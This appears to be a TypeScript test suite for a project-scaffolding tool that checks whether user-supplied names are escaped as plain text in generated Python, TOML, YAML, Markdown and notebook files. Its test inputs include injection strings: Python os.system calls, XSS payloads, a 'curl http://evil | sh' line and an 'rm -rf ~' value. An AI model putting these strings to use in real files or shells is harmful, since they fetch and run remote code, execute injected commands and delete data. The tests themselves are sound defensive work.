import * as assert from 'assert';
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import MarkdownIt from 'markdown-it';
import * as path from 'path';
import { parse as parseYaml } from 'yaml';
import { parseScaffoldManifest } from '../../src/scaffold/manifest';
import { plainValue } from '../../src/scaffold/escape';
import { builtinVariables, planScaffold, renderFile, TemplateFile } from '../../src/scaffold/plan';
import { ROOT } from './helpers';

/** The system Python, which has `ast` and `tomllib` (3.11+). */
const PYTHON = '/usr/bin/python3';
const SCAFFOLDS_DIR = path.join(ROOT, 'roadmaps', 'scaffolds');
const encode = (text: string) => new TextEncoder().encode(text);
const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

/** Names and titles an attacker (a roadmap in the workspace) or an unlucky user could supply. */
const HOSTILE = [
  'x"""; __import__("os").system("echo PWNED"); """',
  "x'''; __import__('os').system('echo PWNED'); '''",
  'Say "hi" \\ and \'bye\' \\"',
  'first line\nimport os; os.system("echo PWNED")\n# rest',
  'carriage\rreturn\u2028separator\ttab\u0000nul',
  '{{projectName}} {{packageName}} {x} {{',
  '<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) **bold** _it_ `code` # h | t | ![i](http://e/x.png) $x$ &amp; \\',
  'toml """ and \'\'\' and \\u0041',
  'key: value # comment\n- item: [1, {a: b}]',
  '8000\nRUN curl http://evil | sh',
  '- list start',
  '1. numbered',
];
const BENIGN = 'Sample Project';

/**
 * The built-in variables with `value` as project name, task title and roadmap title. The package
 * name and slug are made from the benign name (they are slugified, so always plain), so that the
 * renderings differ only where free text went in.
 */
function hostileVariables(manifestDefaults: Record<string, string>, value: string): Record<string, string> {
  const { slug, packageName } = builtinVariables({ projectName: BENIGN, taskTitle: '', taskId: '', roadmapTitle: '', roadmapId: '', now: new Date() });
  return {
    ...manifestDefaults,
    ...builtinVariables({ projectName: value, taskTitle: value, taskId: 'some-task', roadmapTitle: value, roadmapId: 'some-roadmap', now: new Date(2026, 0, 2) }),
    slug,
    packageName,
  };
}

function readTemplates(dir: string, prefix = ''): TemplateFile[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return readTemplates(full, `${prefix}${entry.name}/`);
    return [{ path: `${prefix}${entry.name}`, content: new Uint8Array(fs.readFileSync(full)) }];
  });
}

/** Runs `script` in the system Python with `input` as JSON on stdin; the script prints JSON. */
function python<T>(script: string, input: unknown): T {
  return JSON.parse(execFileSync(PYTHON, ['-c', script], { input: JSON.stringify(input), maxBuffer: 64 * 1024 * 1024 }).toString()) as T;
}

/**
 * For pairs of Python sources, the names of those whose syntax trees differ once every constant is
 * blanked out — that is, where the hostile rendering is not the same program with other text in
 * its strings — or that do not parse.
 */
const SAME_PROGRAM = `
import ast, json, sys
def shape(source):
    tree = ast.parse(source)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant):
            node.value = None
    return ast.dump(tree)
bad = []
for name, benign, hostile in json.load(sys.stdin):
    try:
        expected = shape(benign)
    except SyntaxError:
        continue  # notebook cells with IPython magics are not plain Python
    try:
        if shape(hostile) != expected:
            bad.append(name + ': a different program')
    except SyntaxError as error:
        bad.append(name + ': ' + str(error))
print(json.dumps(bad))
`;

/** The structure of Markdown: token types and tags, without the text. */
type Markdown = InstanceType<typeof MarkdownIt>;

function markdownShape(md: Markdown, text: string): string[] {
  const shape: string[] = [];
  const walk = (tokens: ReturnType<Markdown['parse']>) => {
    for (const token of tokens) {
      if (token.type !== 'text' && token.type !== 'text_special' && token.type !== 'softbreak') shape.push(`${token.type}:${token.tag}`);
      if (token.children) walk(token.children);
    }
  };
  walk(md.parse(text, {}));
  return shape;
}

interface Notebook {
  cells: { cell_type: string; source: string[] }[];
}

suite('Template values are text, never code or markup', () => {
  const md = new MarkdownIt({ html: true, linkify: false });
  const ids = fs.readdirSync(SCAFFOLDS_DIR, { withFileTypes: true }).filter((e) => e.isDirectory()).map((e) => e.name).sort();

  test('Every bundled scaffold renders hostile names and titles into the same programs, notebooks and documents', function () {
    this.timeout(60_000);
    const pythonPairs: [string, string, string][] = [];
    const problems: string[] = [];
    let compared = 0;
    for (const id of ids) {
      const { manifest } = parseScaffoldManifest(fs.readFileSync(path.join(SCAFFOLDS_DIR, id, 'scaffold.yaml'), 'utf8'), id);
      assert.ok(manifest, `${id}: manifest`);
      const defaults = Object.fromEntries(manifest.variables.map((v) => [v.name, v.default]));
      const files = readTemplates(path.join(SCAFFOLDS_DIR, id, 'files'));
      const benign = planScaffold({ files, variables: hostileVariables(defaults, BENIGN), existing: new Set() });
      assert.deepStrictEqual(benign.errors, [], id);
      for (const [h, value] of HOSTILE.entries()) {
        const hostile = planScaffold({ files, variables: hostileVariables(defaults, value), existing: new Set() });
        assert.deepStrictEqual(hostile.errors, [], `${id} with hostile value ${h}`);
        assert.deepStrictEqual(hostile.create.map((f) => f.path), benign.create.map((f) => f.path));
        hostile.create.forEach((file, i) => {
          const name = `${id}/${file.path} (value ${h})`;
          const before = decode(benign.create[i].content);
          const after = decode(file.content);
          // Files without a free-text reference render the same; only the others need a look.
          if (after === before) return;
          compared++;
          if (file.path.endsWith('.py')) {
            pythonPairs.push([name, before, after]);
          } else if (file.path.endsWith('.ipynb')) {
            const a = JSON.parse(before) as Notebook;
            const b = JSON.parse(after) as Notebook;
            assert.deepStrictEqual(b.cells.map((c) => [c.cell_type, c.source.length]), a.cells.map((c) => [c.cell_type, c.source.length]), `${name}: cells and their lines`);
            b.cells.forEach((cell, c) => {
              const [x, y] = [a.cells[c].source.join(''), cell.source.join('')];
              if (cell.cell_type === 'code') pythonPairs.push([`${name} cell ${c + 1}`, x, y]);
              if (cell.cell_type === 'markdown' && markdownShape(md, x).join() !== markdownShape(md, y).join()) problems.push(`${name} cell ${c + 1}: Markdown structure changed`);
            });
          } else if (file.path.endsWith('.md')) {
            if (markdownShape(md, before).join() !== markdownShape(md, after).join()) problems.push(`${name}: Markdown structure changed`);
          } else if (file.path.endsWith('.json')) {
            JSON.parse(after);
          } else {
            assert.strictEqual(after.split('\n').length, before.split('\n').length, `${name}: same number of lines`);
          }
          const injectedLines = (text: string) => (text.match(/^\s*(import os;|RUN curl|- item)/gm) ?? []).length;
          assert.strictEqual(injectedLines(after), injectedLines(before), `${name}: a hostile line became a line of its own`);
        });
      }
    }
    // 21 scaffolds × 12 values, each scaffold with a README and most with a notebook or a docstring.
    assert.ok(compared > 21 * HOSTILE.length * 2, `compared ${compared} files`);
    problems.push(...python<string[]>(SAME_PROGRAM, pythonPairs));
    assert.deepStrictEqual(problems, []);
  });

  test('Python strings of every kind, and comments, hold the value exactly', () => {
    const template = [
      '# {{v}}',
      'A = "{{v}}"',
      "B = '{{v}}'",
      'C = """{{v}}"""',
      "D = '''prefix {{v}} suffix'''",
      'E = f"{{v}}"',
      'F = rb"x"  # {{v}}',
      'def f():',
      '    """Docstring for {{v}}."""',
      '    return"{{v}}"',
      '',
    ].join('\n');
    const read = `
import ast, json, sys
out = []
for source in json.load(sys.stdin):
    values = {}
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Assign):
            v = node.value
            values[node.targets[0].id] = v.value.decode() if isinstance(v, ast.Constant) and isinstance(v.value, bytes) else v.value if isinstance(v, ast.Constant) else ''.join(p.value for p in v.values) if isinstance(v, ast.JoinedStr) and all(isinstance(p, ast.Constant) for p in v.values) else None
        if isinstance(node, ast.FunctionDef):
            values['doc'] = ast.get_docstring(node)
            values['ret'] = node.body[1].value.value
    out.append(values)
print(json.dumps(out))
`;
    const rendered = HOSTILE.map((value) => {
      const result = renderFile('pkg/module.py', template, { v: value });
      assert.deepStrictEqual(result.problems, [], value);
      return result.text;
    });
    const values = python<Record<string, string | null>[]>(read, rendered);
    HOSTILE.forEach((value, i) => {
      const text = plainValue(value);
      assert.deepStrictEqual(values[i], { A: text, B: text, C: text, D: `prefix ${text} suffix`, E: text, F: 'x', doc: `Docstring for ${text}.`, ret: text }, value);
    });
  });

  test('TOML, YAML and JSON strings hold the value exactly; comments stay comments', () => {
    const toml = HOSTILE.map((value) => renderFile('pyproject.toml', `# {{v}}\n[project]\nname = "{{v}}"\ndescription = """\n{{v}}"""\n`, { v: value }));
    for (const result of toml) assert.deepStrictEqual(result.problems, []);
    const parsed = python<{ project: { name: string; description: string } }[]>(
      'import json, sys, tomllib\nprint(json.dumps([tomllib.loads(t) for t in json.load(sys.stdin)]))',
      toml.map((r) => r.text),
    );
    HOSTILE.forEach((value, i) => assert.deepStrictEqual(parsed[i], { project: { name: plainValue(value), description: plainValue(value) } }, value));

    for (const value of HOSTILE) {
      const yaml = renderFile('.github/workflows/ci.yml', `# {{v}}\nname: "{{v}}"\ntitle: '{{v}}'\nlist:\n  - "{{v}}"\n`, { v: value });
      assert.deepStrictEqual(yaml.problems, []);
      const text = plainValue(value);
      assert.deepStrictEqual(parseYaml(yaml.text), { name: text, title: text, list: [text] }, value);
      const json = renderFile('config/settings.json', '{"name": "{{v}}", "list": ["{{v}}"]}', { v: value });
      assert.deepStrictEqual(JSON.parse(json.text), { name: text, list: [text] }, value);
    }
  });

  test('Markdown shows the value as text: no HTML, links, emphasis or headings come from it', () => {
    const md = new MarkdownIt({ html: true });
    for (const value of HOSTILE) {
      const result = renderFile('README.md', '# {{v}}\n\n{{v}}\n\nCreated for "{{v}}" and `{{v}}`.\n', { v: value });
      assert.deepStrictEqual(result.problems, []);
      const tokens = md.parse(result.text, {});
      const inline = tokens.filter((t) => t.type === 'inline');
      assert.deepStrictEqual(
        tokens.map((t) => t.type),
        ['heading_open', 'inline', 'heading_close', 'paragraph_open', 'inline', 'paragraph_close', 'paragraph_open', 'inline', 'paragraph_close'],
        value,
      );
      const text = plainValue(value).trim();
      assert.strictEqual(inline[0].children!.map((c) => c.content).join(''), text, `heading of ${value}`);
      assert.strictEqual(inline[1].children!.map((c) => c.content).join(''), text, `paragraph of ${value}`);
      const last = inline[2].children!;
      assert.deepStrictEqual(last.filter((c) => c.type !== 'text').map((c) => c.type), ['code_inline'], value);
      assert.strictEqual(last.find((c) => c.type === 'code_inline')!.content, plainValue(value).replace(/`/g, "'").trim(), value);
    }
  });

  test('Notebook Markdown cells are escaped as Markdown, code cells as Python, and both stay valid JSON', () => {
    const notebook = JSON.stringify({ cells: [{ cell_type: 'markdown', metadata: {}, source: ['# {{v}}\n', 'For **{{v}}**.\n'] }, { cell_type: 'code', metadata: {}, source: ['NAME = "{{v}}"  # {{v}}\n'], outputs: [] }], nbformat: 4 }, null, 1);
    const value = HOSTILE[6];
    const result = renderFile('notebooks/a.ipynb', notebook, { v: value });
    assert.deepStrictEqual(result.problems, []);
    const cells = (JSON.parse(result.text) as Notebook).cells;
    assert.ok(cells[0].source[0].startsWith('# \\<script\\>'), cells[0].source[0]);
    assert.deepStrictEqual(python<string[]>('import ast, json, sys\nprint(json.dumps([ast.parse(s).body[0].value.value for s in json.load(sys.stdin)]))', [cells[1].source.join('')]), [value]);
  });

  test('Where no escaping exists, only plain names are accepted; anything else is refused with file and line, and nothing is created', () => {
    const refused: [string, string][] = [
      ['Dockerfile', 'FROM python:3.11\nEXPOSE {{v}}\n'],
      ['requirements.txt', 'numpy==1.26.4\n{{v}}\n'],
      ['run.sh', 'python -m {{v}}\n'],
      ['app/main.py', 'import {{v}}\n'],
      ['app/paths.py', 'P = r"{{v}}"\n'],
      ['pyproject.toml', "name = '{{v}}'\n"],
      ['config.yaml', 'name: {{v}}\n'],
      ['README.md', 'Run:\n\n```bash\npython -m {{v}}\n```\n'],
      ['index.html', '<title>{{v}}</title>\n'],
    ];
    for (const [file, template] of refused) {
      const plan = planScaffold({ files: [{ path: file, content: encode(template) }], variables: { v: `x'; rm -rf ~ \\ #` }, existing: new Set() });
      assert.strictEqual(plan.errors.length, 1, `${file}: ${plan.errors.join('\n')}`);
      assert.match(plan.errors[0], new RegExp(`^${file.replace(/\./g, '\\.')}: line \\d+: \\{\\{v\\}\\} cannot be filled in safely`), plan.errors[0]);
      assert.deepStrictEqual(plan.create, []);
      // The same places take plain names: ports, package names, slugs, dates.
      assert.deepStrictEqual(planScaffold({ files: [{ path: file, content: encode(template) }], variables: { v: 'my_project.train' }, existing: new Set() }).errors, [], file);
    }
    // A comment in those files takes any text, on one line.
    const dockerfile = renderFile('Dockerfile', '# For {{v}}\nEXPOSE 8000\n', { v: HOSTILE[9] });
    assert.deepStrictEqual([dockerfile.problems, dockerfile.text.split('\n').length], [[], 3]);
  });
});
